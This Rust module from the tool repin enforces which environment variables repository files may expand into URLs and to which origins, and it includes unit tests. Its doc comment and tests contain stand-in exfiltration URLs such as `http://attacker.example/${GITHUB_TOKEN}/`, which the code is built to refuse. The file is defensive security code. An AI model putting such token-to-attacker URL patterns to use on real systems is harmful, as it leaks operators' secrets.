//! Which environment variables a repository may have expanded, and for which origin.
//!
//! A repository's files are written by whoever can push to it; the environment repin runs in
//! belongs to the operator (the workflow's secrets, the bot's tokens). A repository that could
//! write `--index-url http://attacker.example/${GITHUB_TOKEN}/` would choose both a secret and
//! where it goes. So a `${NAME}` reference in repository text (a requirements file, a
//! Dockerfile's `pip install`, the repository's `repin.toml`) is expanded only when the
//! operator allowed that variable for the origin (scheme, host and port) the expanded URL goes
//! to: `--allow-env NAME@https://host[:port]` or `REPIN_ALLOW_ENV`. Anything else is refused
//! before the variable is read, for that one URL.
//!
//! A variable in the host part of a URL decides where the URL goes, so its origin is only known
//! after expansion: it is expanded only when the operator allowed it for some origin, and the
//! URL it gives must then be one of the origins allowed for every variable in it. Such an origin
//! is never printed (it could hold the variable's value).
//!
//! Settings the operator wrote (flags, the environment, pip's configuration files, a
//! configuration file outside the repository) are not checked: the operator chose them.

use std::collections::BTreeSet;
use std::fmt;
use std::net::IpAddr;
use std::str::FromStr;

use url::Url;

/// The environment variable that holds the operator's grants, as `--allow-env` takes them,
/// separated by commas or white space.
pub const ALLOW_ENV_VAR: &str = "REPIN_ALLOW_ENV";

/// Who wrote a setting: the operator running repin, or the repository it runs on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Author {
    /// The operator: flags, environment, pip's and Docker's files, a configuration file outside
    /// the repository. Trusted.
    Operator,
    /// The repository: its manifests and its own `repin.toml`. Not trusted with secrets.
    #[default]
    Repository,
}

/// Errors of the trust policy.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TrustError {
    /// An `--allow-env` (or `REPIN_ALLOW_ENV`) entry that does not parse.
    #[error("Invalid allow-env entry `{text}`: {reason}")]
    InvalidGrant {
        /// The entry as written.
        text: String,
        /// What is wrong.
        reason: String,
    },
    /// A repository refers to a variable the operator did not allow for where it would go.
    #[error("{}", not_allowed(.variable, .origin.as_deref(), .place.as_deref(), .what))]
    NotAllowed {
        /// The variable.
        variable: String,
        /// Where the value would go; `None` when a variable decides the host (the origin could
        /// hold a variable's value, so it is not shown). Boxed: errors travel in `Result`s.
        origin: Option<Box<Origin>>,
        /// Where the reference is written (`path:line:col`), when known.
        place: Option<String>,
        /// What holds the reference (`the index URL`, `password-env of [registries."ghcr.io"]`).
        what: String,
    },
}

fn not_allowed(variable: &str, origin: Option<&Origin>, place: Option<&str>, what: &str) -> String {
    let at = place.map(|p| format!(" at {p}")).unwrap_or_default();
    match origin {
        Some(origin) => format!(
            "Refused to expand `${{{variable}}}` in {what}{at}: the operator has not allowed it to be sent to {origin}"
        ),
        None => format!(
            "Refused to expand `${{{variable}}}` in {what}{at}: a variable in the host part decides where the URL goes, and the operator has not allowed it for that origin"
        ),
    }
}

impl TrustError {
    /// What to do about it.
    pub fn hint(&self) -> Option<String> {
        match self {
            TrustError::InvalidGrant { .. } => Some(format!(
                "write NAME@https://host[:port], for example `--allow-env PYPI_TOKEN@https://pypi.example.com` (in {ALLOW_ENV_VAR}, separate entries with commas or spaces)"
            )),
            TrustError::NotAllowed {
                variable,
                origin: Some(origin),
                ..
            } => Some(format!(
                "if {origin} may receive it, run repin with --allow-env {variable}@{origin} (or add it to {ALLOW_ENV_VAR}; the Action's input `allow-env`)"
            )),
            TrustError::NotAllowed { variable, .. } => Some(format!(
                "write the host in the URL itself, or run repin with --allow-env {variable}@https://HOST[:PORT] naming the origin the URL must expand to"
            )),
        }
    }
}

/// Where a request goes: scheme, host and port (the port shown only when it is not the
/// scheme's default).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Origin {
    scheme: String,
    host: String,
    port: u16,
}

impl Origin {
    /// The origin of an `http` or `https` URL with a host; `None` for anything else.
    pub fn of(url: &Url) -> Option<Origin> {
        let scheme = url.scheme();
        if !matches!(scheme, "http" | "https") {
            return None;
        }
        Some(Origin {
            scheme: scheme.to_owned(),
            host: url.host_str()?.to_owned(),
            port: url.port_or_known_default()?,
        })
    }

    /// The host (IPv6 addresses in brackets).
    pub fn host(&self) -> &str {
        &self.host
    }

    /// Whether what is sent there stays between the two ends: HTTPS, or a loopback host (the
    /// machine itself). A credential the repository's choice of URL would route is only sent
    /// over such a channel, never in the clear across a network.
    pub fn is_confidential(&self) -> bool {
        self.scheme == "https" || is_loopback(&self.host)
    }
}

/// Whether `host` (a name or an address, with or without a `:port`, IPv6 addresses in
/// brackets) is the machine itself: `localhost` or a loopback address.
pub fn is_loopback(host: &str) -> bool {
    let name = host.rsplit_once(':').map_or(host, |(h, p)| {
        if !h.is_empty() && p.chars().all(|c| c.is_ascii_digit()) && !h.ends_with(':') {
            h
        } else {
            host
        }
    });
    let name = name.trim_start_matches('[').trim_end_matches(']');
    name.eq_ignore_ascii_case("localhost")
        || name.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let default = if self.scheme == "https" { 443 } else { 80 };
        if self.port == default {
            write!(f, "{}://{}", self.scheme, self.host)
        } else {
            write!(f, "{}://{}:{}", self.scheme, self.host, self.port)
        }
    }
}

/// Why a text is not an origin. The messages are clauses: they follow
/// [`TrustError::InvalidGrant`]'s colon.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum OriginError {
    /// No `scheme://`.
    #[error("the origin needs a scheme: https://host[:port]")]
    NoScheme,
    /// Not a URL at all.
    #[error("`{text}` is not a URL: {reason}")]
    NotUrl {
        /// The text.
        text: String,
        /// The URL parser's reason (part of the clause, not a cause: it says what is wrong
        /// with the text).
        reason: url::ParseError,
    },
    /// A scheme other than http and https.
    #[error("the scheme `{0}` is not http or https")]
    Scheme(String),
    /// User info in the URL.
    #[error("an origin has no user name or password")]
    Credentials,
    /// A path, query or fragment.
    #[error("an origin has no path, query or fragment: https://host[:port]")]
    Path,
    /// No host.
    #[error("`{0}` has no host")]
    NoHost(String),
}

impl FromStr for Origin {
    type Err = OriginError;

    /// `https://host[:port]`, with at most a `/` after it: no user info, path, query or
    /// fragment (an origin is where a request goes, not what it asks).
    fn from_str(text: &str) -> Result<Origin, OriginError> {
        if !text.contains("://") {
            return Err(OriginError::NoScheme);
        }
        let url = Url::parse(text).map_err(|reason| OriginError::NotUrl {
            text: text.to_owned(),
            reason,
        })?;
        if !matches!(url.scheme(), "http" | "https") {
            return Err(OriginError::Scheme(url.scheme().to_owned()));
        }
        if !url.username().is_empty() || url.password().is_some() {
            return Err(OriginError::Credentials);
        }
        if url.path() != "/" || url.query().is_some() || url.fragment().is_some() {
            return Err(OriginError::Path);
        }
        Origin::of(&url).ok_or_else(|| OriginError::NoHost(text.to_owned()))
    }
}

/// One grant: `NAME@https://host[:port]`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Grant {
    /// The variable.
    pub variable: String,
    /// Where its value may go.
    pub origin: Origin,
}

impl fmt::Display for Grant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}@{}", self.variable, self.origin)
    }
}

/// Whether `name` is an environment variable name as repin expands them (`${NAME}`).
pub fn is_variable_name(name: &str) -> bool {
    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

impl FromStr for Grant {
    type Err = TrustError;

    fn from_str(text: &str) -> Result<Grant, TrustError> {
        let invalid = |reason: String| TrustError::InvalidGrant {
            text: text.to_owned(),
            reason,
        };
        let (variable, origin) = text
            .split_once('@')
            .ok_or_else(|| invalid("expected NAME@https://host[:port]".into()))?;
        if !is_variable_name(variable) {
            return Err(invalid(format!(
                "`{variable}` is not an environment variable name"
            )));
        }
        let origin = origin
            .parse::<Origin>()
            .map_err(|e| invalid(e.to_string()))?;
        Ok(Grant {
            variable: variable.to_owned(),
            origin,
        })
    }
}

/// One `${NAME}` reference in a URL written by a repository.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reference {
    /// The variable.
    pub name: String,
    /// Whether it is in the host part (before the first `/`, `?` or `#` after the user info).
    pub in_host: bool,
}

/// The operator's grants.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AllowList {
    grants: BTreeSet<Grant>,
}

impl AllowList {
    /// The grants of `--allow-env` flags and of `REPIN_ALLOW_ENV` (`env`, when set).
    pub fn from_operator(flags: &[Grant], env: Option<&str>) -> Result<AllowList, TrustError> {
        let mut grants: BTreeSet<Grant> = flags.iter().cloned().collect();
        if let Some(env) = env {
            for entry in env
                .split(|c: char| c == ',' || c.is_whitespace())
                .filter(|e| !e.is_empty())
            {
                let grant = entry.parse::<Grant>().map_err(|error| match error {
                    TrustError::InvalidGrant { text, reason } => TrustError::InvalidGrant {
                        text,
                        reason: format!("{reason} (in {ALLOW_ENV_VAR})"),
                    },
                    other => other,
                })?;
                grants.insert(grant);
            }
        }
        Ok(AllowList { grants })
    }

    /// The grants, in order.
    pub fn grants(&self) -> impl Iterator<Item = &Grant> {
        self.grants.iter()
    }

    /// Whether `variable` may be sent to `origin`.
    pub fn allows(&self, variable: &str, origin: &Origin) -> bool {
        self.grants
            .iter()
            .any(|g| g.variable == variable && &g.origin == origin)
    }

    /// Whether `variable` is allowed for any origin at all.
    pub fn names(&self, variable: &str) -> bool {
        self.grants.iter().any(|g| g.variable == variable)
    }

    /// Check the references of a URL the repository wrote, before any is expanded.
    ///
    /// `origin` gives where the URL goes: called without a variable of the host part expanded
    /// when there is none, else only after every such variable was found allowed for some
    /// origin. `what` and `place` name the URL in errors.
    pub fn check<E>(
        &self,
        references: &[Reference],
        origin: impl FnOnce() -> Result<Origin, E>,
        what: &str,
        place: Option<&str>,
    ) -> Result<Result<Origin, E>, TrustError> {
        let refused = |variable: &str, origin: Option<Origin>| TrustError::NotAllowed {
            variable: variable.to_owned(),
            origin: origin.map(Box::new),
            place: place.map(str::to_owned),
            what: what.to_owned(),
        };
        let host_variable = references.iter().any(|r| r.in_host);
        // A host variable the operator never allowed anywhere is not even read.
        if let Some(r) = references
            .iter()
            .find(|r| r.in_host && !self.names(&r.name))
        {
            return Err(refused(&r.name, None));
        }
        let origin = match origin() {
            Ok(origin) => origin,
            Err(error) => return Ok(Err(error)),
        };
        for r in references {
            if !self.allows(&r.name, &origin) {
                return Err(refused(&r.name, (!host_variable).then(|| origin.clone())));
            }
        }
        Ok(Ok(origin))
    }
}

/// The `${NAME}` references of a URL template, with whether each is in its host part.
/// `$NAME` without braces is not a reference (pip leaves it alone, and so does repin).
pub fn references(template: &str) -> Vec<Reference> {
    let after_scheme = template.find("://").map_or(0, |i| i + 3);
    let rest = &template[after_scheme..];
    let authority_end = after_scheme + rest.find(['/', '?', '#']).unwrap_or(rest.len());
    // User info ends at the authority's last `@`; the host part is what follows it.
    let host_start = template[after_scheme..authority_end]
        .rfind('@')
        .map_or(after_scheme, |at| after_scheme + at + 1);
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(start) = template[at..].find("${").map(|i| at + i) {
        let Some(len) = template[start + 2..].find('}') else {
            break;
        };
        let name = &template[start + 2..start + 2 + len];
        if is_variable_name(name) {
            let end = start + 3 + len;
            found.push(Reference {
                name: name.to_owned(),
                // Overlapping the host part at all counts: `${A}x.example` or `a.${B}`.
                in_host: start < authority_end && end > host_start,
            });
        }
        at = start + 3 + len;
    }
    found
}

impl crate::error::Hint for TrustError {
    fn hints(&self) -> Vec<String> {
        self.hint().into_iter().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origin(text: &str) -> Origin {
        text.parse().unwrap()
    }

    #[test]
    fn loopback_hosts_and_confidential_origins() {
        for host in [
            "localhost",
            "LOCALHOST:5000",
            "127.0.0.1",
            "127.0.0.2:80",
            "[::1]",
            "[::1]:443",
            "::1",
        ] {
            assert!(is_loopback(host), "{host}");
        }
        for host in [
            "localhost.example",
            "10.0.0.1:5000",
            "[::2]",
            "example.com",
            "",
        ] {
            assert!(!is_loopback(host), "{host}");
        }
        let confidential = |url: &str| {
            Origin::of(&Url::parse(url).unwrap())
                .unwrap()
                .is_confidential()
        };
        assert!(confidential("https://example.com/simple"));
        assert!(confidential("http://127.0.0.1:8080/simple"));
        assert!(confidential("http://[::1]:8080/simple"));
        assert!(!confidential("http://example.com/simple"));
    }

    fn list(grants: &[&str]) -> AllowList {
        let grants: Vec<Grant> = grants.iter().map(|g| g.parse().unwrap()).collect();
        AllowList::from_operator(&grants, None).unwrap()
    }

    #[test]
    fn grants_parse_name_and_origin_and_nothing_more() {
        let grant: Grant = "PYPI_TOKEN@https://pypi.example.com".parse().unwrap();
        assert_eq!(grant.variable, "PYPI_TOKEN");
        assert_eq!(grant.to_string(), "PYPI_TOKEN@https://pypi.example.com");
        // Default ports are the same origin; others are not; hosts are case-insensitive.
        assert_eq!(
            origin("https://PyPI.Example.com:443/"),
            origin("https://pypi.example.com")
        );
        assert_ne!(
            origin("https://pypi.example.com:8443"),
            origin("https://pypi.example.com")
        );
        assert_ne!(
            origin("http://pypi.example.com"),
            origin("https://pypi.example.com")
        );
        assert_eq!(
            origin("http://127.0.0.1:8080").to_string(),
            "http://127.0.0.1:8080"
        );
        assert_eq!(origin("http://[::1]:81").host(), "[::1]");
        for bad in [
            "PYPI_TOKEN",
            "PYPI_TOKEN@pypi.example.com",
            "PYPI-TOKEN@https://pypi.example.com",
            "@https://pypi.example.com",
            "T@https://user:pw@pypi.example.com",
            "T@https://pypi.example.com/simple/",
            "T@https://pypi.example.com/?x=1",
            "T@ftp://pypi.example.com",
            "T@https://",
        ] {
            let error = bad.parse::<Grant>().unwrap_err();
            assert!(
                matches!(error, TrustError::InvalidGrant { .. }),
                "{bad}: {error:?}"
            );
            assert!(error.hint().unwrap().contains("NAME@https://host[:port]"));
        }
    }

    #[test]
    fn the_environment_variable_takes_commas_and_spaces() {
        let flags = ["A@https://a.example".parse::<Grant>().unwrap()];
        let allow = AllowList::from_operator(
            &flags,
            Some(" B@https://b.example,C@http://127.0.0.1:9\n D@https://d.example ,"),
        )
        .unwrap();
        let all: Vec<String> = allow.grants().map(ToString::to_string).collect();
        assert_eq!(
            all,
            [
                "A@https://a.example",
                "B@https://b.example",
                "C@http://127.0.0.1:9",
                "D@https://d.example"
            ]
        );
        let error =
            AllowList::from_operator(&[], Some("A@https://a.example nonsense")).unwrap_err();
        assert!(error.to_string().contains("`nonsense`"), "{error}");
        assert!(error.to_string().contains(ALLOW_ENV_VAR), "{error}");
    }

    #[test]
    fn references_know_the_host_part() {
        let refs = |t: &str| -> Vec<(String, bool)> {
            references(t)
                .into_iter()
                .map(|r| (r.name, r.in_host))
                .collect()
        };
        assert_eq!(
            refs("https://${USER}:${TOKEN}@pypi.example/simple/${PATH_PART}?t=${Q}"),
            [
                ("USER".into(), false),
                ("TOKEN".into(), false),
                ("PATH_PART".into(), false),
                ("Q".into(), false)
            ]
        );
        assert_eq!(refs("https://${HOST}/simple"), [("HOST".into(), true)]);
        assert_eq!(
            refs("https://tok@a.${DOMAIN}:8080/"),
            [("DOMAIN".into(), true)]
        );
        assert_eq!(refs("https://${T}.attacker.example"), [("T".into(), true)]);
        // Not references: `$NAME`, `${}`, `${a-b}`, an unclosed brace.
        assert!(refs("https://x/$T/${}/${a-b}/${OPEN").is_empty());
    }

    #[test]
    fn a_variable_goes_only_to_the_origin_it_was_allowed_for() {
        let allow = list(&["TOKEN@https://pypi.example.com"]);
        let token = [Reference {
            name: "TOKEN".into(),
            in_host: false,
        }];
        let ok = allow.check::<()>(&token, || Ok(origin("https://pypi.example.com")), "x", None);
        assert_eq!(ok, Ok(Ok(origin("https://pypi.example.com"))));
        let error = allow
            .check::<()>(
                &token,
                || Ok(origin("http://attacker.example:8080")),
                "the index URL",
                Some("requirements.txt:1:13"),
            )
            .unwrap_err();
        assert_eq!(
            error.to_string(),
            "Refused to expand `${TOKEN}` in the index URL at requirements.txt:1:13: the operator has not allowed it to be sent to http://attacker.example:8080"
        );
        assert_eq!(
            error.hint().unwrap(),
            "if http://attacker.example:8080 may receive it, run repin with --allow-env TOKEN@http://attacker.example:8080 (or add it to REPIN_ALLOW_ENV; the Action's input `allow-env`)"
        );
        // Another variable allowed for the same origin does not allow this one.
        let other = [Reference {
            name: "GITHUB_TOKEN".into(),
            in_host: false,
        }];
        assert!(
            allow
                .check::<()>(&other, || Ok(origin("https://pypi.example.com")), "x", None)
                .is_err()
        );
    }

    #[test]
    fn a_host_variable_is_not_read_unless_allowed_and_its_origin_never_shown() {
        let allow = list(&["HOST@https://pypi.example.com"]);
        let host = |name: &str| Reference {
            name: name.into(),
            in_host: true,
        };
        // Never allowed anywhere: the origin is not even computed (the variable is not read).
        let mut asked = false;
        let error = allow
            .check::<()>(
                &[host("GITHUB_TOKEN")],
                || {
                    asked = true;
                    Ok(origin("https://secret.example"))
                },
                "the index URL",
                None,
            )
            .unwrap_err();
        assert!(!asked);
        assert!(matches!(error, TrustError::NotAllowed { origin: None, .. }));
        assert!(
            error
                .hint()
                .unwrap()
                .contains("--allow-env GITHUB_TOKEN@https://HOST[:PORT]")
        );
        // Allowed somewhere, expanding to the allowed origin: fine.
        assert!(
            allow
                .check::<()>(
                    &[host("HOST")],
                    || Ok(origin("https://pypi.example.com")),
                    "x",
                    None
                )
                .is_ok()
        );
        // Expanding elsewhere (`https://${HOST}.attacker.example`): refused, origin not shown.
        let error = allow
            .check::<()>(
                &[host("HOST")],
                || Ok(origin("https://pypi.example.com.attacker.example")),
                "x",
                None,
            )
            .unwrap_err();
        assert!(matches!(error, TrustError::NotAllowed { origin: None, .. }));
        assert!(!error.to_string().contains("attacker"), "{error}");
    }
}
